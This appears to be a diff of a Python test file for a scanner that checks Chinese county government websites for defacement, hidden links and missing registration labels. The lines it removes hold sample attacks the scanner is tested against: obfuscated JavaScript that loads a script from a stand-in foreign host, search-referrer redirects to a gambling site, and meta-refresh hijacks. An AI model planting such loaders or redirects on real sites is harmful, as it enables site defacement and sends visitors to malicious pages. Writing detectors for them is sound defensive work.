@@ -2,20 +2,17 @@
 
 from __future__ import annotations
 
-from base64 import b64encode
 from datetime import date
 
 import pytest
 from read_tools import read
 from site_facts import WINDOWS, facts
 
-from xuncha.checks.injection.check import observe as observe_injection
 from xuncha.checks.labels.check import observe as observe_labels
 from xuncha.crawl.brokenpages import says_broken
 from xuncha.facts import PageLabels, PageType, Site
 from xuncha.fetch.challenges import challenge_in
 from xuncha.read.pagefacts import Page
-from xuncha.read.signs import telling_signs
 
 HOME = "http://www.shili.gov.cn/"
 SITE = Site(HOME, "示例县人民政府", "4101000001")
@@ -31,12 +28,6 @@ def hidden(body: str, head: str = "") -> int:
     return len(signs.hidden_links) if signs else 0
 
 
-def injected(body: str, head: str = "", title: str = "示例县人民政府") -> set[str]:
-    signs = telling_signs([page(body, head, title)])
-    seen = observe_injection(facts(site=SITE, signs=signs), WINDOWS)
-    return {one.name for one in seen} - {"leaving_notice_unknown"}
-
-
 def links(*hosts: str) -> str:
     return "".join(f'<a href="http://www.{host}.example/">{host}</a>' for host in hosts)
 
@@ -45,17 +36,8 @@ def script(code: str) -> str:
     return f"<script>{code}</script>"
 
 
-def codes(text: str) -> str:
-    return ",".join(str(ord(c)) for c in text)
-
-
-def coded(text: str) -> str:
-    return b64encode(text.encode()).decode()
-
-
 FOUR = links("fangzhi", "chaye", "dianli", "muye")
 SELLS = '<a href="http://bc.example/">真人百家乐开户</a>'
-FAR = "http://js.yuanfang.example/a.js"
 
 
 @pytest.mark.parametrize("letter", "蜀陇黔滇")
@@ -193,100 +175,6 @@ def test_a_sheet_whose_tag_a_script_writes_in_pieces() -> None:
     assert hidden(f'<div id="k8">{FOUR}</div>' + script(code)) == 0
 
 
-ELEMENTS = {
-    "by the codes of its letters": f"var e=document.createElement(String.fromCharCode({codes('script')}));e.src=String.fromCharCode({codes(FAR)});document.head.appendChild(e);",
-    "by words in base64": f"var w=['{coded('script')}','{coded(FAR)}'];var s=document.createElement(atob(w[0]));s.src=atob(w[1]);document.head.appendChild(s);",
-    "by its name in brackets": "var s=document.createElement('script');s['src']='http://js.yuanfang.example/a.js';document.head.appendChild(s);",
-    "by the letters in hexadecimal": 's=document.createElement("script");s["\\x73\\x72\\x63"]="'
-    + "".join(f"\\x{ord(c):02x}" for c in FAR)
-    + '";document.head.appendChild(s);',
-    "by a list that is written": "var t=[\"<script src='http://js.yuanfang.example/a.js'><\\/script>\"];document.write(t);",
-    "by a decoder of its own": f"function jie(e){{var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';return e}}(function(u,d,c){{var s=d.createElement('scri'+c);s.src=jie(u);d.body.appendChild(s)}})('{coded(FAR)}',document,'pt');",
-}
-
-
-@pytest.mark.parametrize("way", ELEMENTS)
-def test_an_element_that_a_script_makes(way: str) -> None:
-    assert injected(script(ELEMENTS[way])) & {"foreign_script", "script_trick"}
-    own = ELEMENTS[way].replace(FAR, "/js/a.js").replace(coded(FAR), coded("/js/a.js"))
-    own = own.replace(codes(FAR), codes("/js/a.js"))
-    own = own.replace("".join(f"\\x{ord(c):02x}" for c in FAR), "/js/a.js")
-    assert injected(script(own)) == set()
-
-
-ENGINE = "var r=/\\.(baidu|sogou|so)\\./;if(r.test(document.referrer)){%s}"
-
-
-@pytest.mark.parametrize(
-    "leads, is_trick",
-    [
-        ("location.href='http://bc.example/1.html'", True),
-        ("location.href='//bc.example/1.html'", True),
-        ("location.replace('http://203.0.113.7:81/')", True),
-        ("location.href=u", True),
-        ("location.href='zt/qs.shtml'", False),
-        ("window.location='/zt/'", False),
-        ("location.href='http://www.shili.gov.cn/zt/'", False),
-        ("location.assign('http://zt.shili.gov.cn/')", False),
-    ],
-)
-def test_who_searched_may_be_led_to_a_page_of_the_site_itself(leads: str, is_trick: bool) -> None:
-    assert injected(script(ENGINE % leads)) == ({"script_trick"} if is_trick else set())
-
-
-@pytest.mark.parametrize(
-    "head, is_led",
-    [
-        ('<meta http-equiv="refresh" content="0;url=http://bc.example/">', True),
-        ("<META HTTP-EQUIV=REFRESH CONTENT=\"3; URL='https://bc.example/a'\">", True),
-        ('<meta http-equiv="refresh" content="0;url=/index.html">', False),
-        ('<meta http-equiv="refresh" content="600">', False),
-        ('<meta http-equiv="refresh" content="0;url=http://zw.shili.gov.cn/">', False),
-        # The county's site has moved.
-        ('<meta http-equiv="refresh" content="0;url=http://www.other.gov.cn/">', False),
-    ],
-)
-def test_a_refresh_to_a_stranger(head: str, is_led: bool) -> None:
-    text = "<p>" + "县政府召开常务会议。" * 40 + "</p>"
-    assert injected(text, head) == ({"script_trick"} if is_led else set())
-
-
-@pytest.mark.parametrize(
-    "code, is_led",
-    [
-        ("if(document.cookie.indexOf('k=')==-1){document.cookie='k=1';window.location='http://bc.example/'}", True),
-        ("setTimeout(function(){location.replace('http://bc.example/')},900)", True),
-        ("window.addEventListener('load',function(){location.href='http://bc.example/'})", True),
-        ("function go(){location.href='http://bc.example/'}", False),
-        ("if(confirm('即将离开本网站')){location.href='http://bc.example/'}", False),
-        ("$('#a').click(function(){location.href='http://bc.example/'})", False),
-        ("b.onclick=()=>{location.href='http://bc.example/'}", False),
-        ("setTimeout(function(){location.replace('/index.html')},900)", False),
-    ],
-)  # fmt: skip
-def test_a_script_that_leads_every_visitor_to_a_stranger(code: str, is_led: bool) -> None:
-    text = "<p>" + "县政府召开常务会议。" * 40 + "</p>"
-    assert injected(text + script(code)) == ({"script_trick"} if is_led else set())
-    # An address without a page sends its visitors on, and so does a site that has moved.
-    assert injected(script(code)) == set()
-    assert injected(text + "<p>本网站已改版，请访问新网址。</p>" + script(code)) == set()
-
-
-@pytest.mark.parametrize(
-    "title, is_sold",
-    [
-        ("SITUS SLOT GACOR HARI INI", True),
-        ("Slot777 Gacor Maxwin - Daftar Togel Online", True),
-        ("Online Casino Bonus | Best Poker Sites", True),
-        ("Casino Royale：县图书馆外文读书会", False),
-        ("Time slot booking for visitors", False),
-        ("Poker-faced: a lecture on portraits", False),
-    ],
-)
-def test_the_trade_in_english(title: str, is_sold: bool) -> None:
-    assert ("page_defaced" in injected("<p>县政府</p>", title=title)) is is_sold
-
-
 @pytest.mark.parametrize(
     "title, words, is_broken",
     [
@@ -337,6 +225,59 @@ def test_a_label_that_a_template_left(value: str, is_wrong: bool) -> None:
     assert [one.name for one in seen] == (["label_wrong"] if is_wrong else [])
 
 
-def test_the_weather_of_a_portal_is_no_stranger() -> None:
-    frame = '<iframe src="http://tianqi.2345.com/plugin/widget/index.htm?s=3"></iframe>'
-    assert injected(frame) == set()
+def test_what_is_visible_again_within_a_box_that_is_not() -> None:
+    inner = f'<div style="visibility:visible">{FOUR}</div>'
+    assert hidden(f'<div style="visibility:hidden">{inner}</div>') == 0
+    # Without ink nothing within is seen.
+    assert hidden(f'<div style="opacity:0">{inner}</div>') == 4
+    assert (
+        hidden(f'<div style="visibility:hidden">{inner}{FOUR.replace("http", "https")}</div>') == 4
+    )
+
+
+def test_a_clear_pane_over_the_whole_window() -> None:
+    link = '<a href="http://go.example/1" style="display:block"></a>'
+    style = "position:fixed;{};z-index:{};opacity:0.01"
+    all_of_it = "top:0;left:0;width:100%;height:100%"
+    assert hidden(f'<div style="{style.format(all_of_it, 99999)}">{link}</div>') == 1
+    corner = "top:0;left:0;width:90px;height:90px"
+    assert hidden(f'<div style="{style.format(corner, 99999)}">{link}</div>') == 0
+
+
+def test_an_icp_number_in_pieces() -> None:
+    foot = "<a>豫<span>ICP</span>备<span>17000033</span>号<span>-1</span></a> | 京公网安备"
+    assert page(foot).identity.icp == "豫ICP备17000033号-1"
+    assert page("豫ICP备17000033号 -- 主办：示例县").identity.icp == "豫ICP备17000033号"
+
+
+def test_a_mark_that_a_script_leaves_out_is_not_shown() -> None:
+    mark = "document.write(unescape(\"%3Cspan id='_ideConac'%3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/1/CA1.js'%3E%3C/script%3E\"));"
+    assert page(script(f"\n // {mark}\n")).identity.party_government_mark is None
+    assert page(script(f"\n {mark} // 标识\n")).identity.party_government_mark
+
+
+def test_an_address_with_its_postcode_is_a_contact() -> None:
+    assert page("<div>示例县政府街1号 邮编：454000 豫ICP备17000033号</div>").identity.contact
+    assert not page("<div>邮编：454000 豫ICP备17000033号</div>").identity.contact
+
+
+def test_the_police_number_of_a_firm_that_was_fined_is_not_that_of_the_page() -> None:
+    told = "<p>当事人：某网络公司，网站备案号：豫公网安备41010002000912号。</p>"
+    foot = '<div class="footer">主办：示例县人民政府 网站标识码：4101000001</div>'
+    assert page(told + foot).identity.police is None
+    own = foot.replace("网站标识码", "豫公网安备41010002000001号 网站标识码")
+    assert (page(told + own).identity.police or "").endswith("41010002000001号")
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "templates/default/content/show_9.html is not exists!",
+        ":( 非法操作 页面自动 跳转 等待时间： 3",
+    ],
+)
+def test_a_framework_says_that_it_failed(words: str) -> None:
+    assert says_broken("", words)
+    assert not says_broken(
+        "", f"关于{words}的说明：" + "各单位请及时更新模板，避免访客看到提示。" * 9
+    )
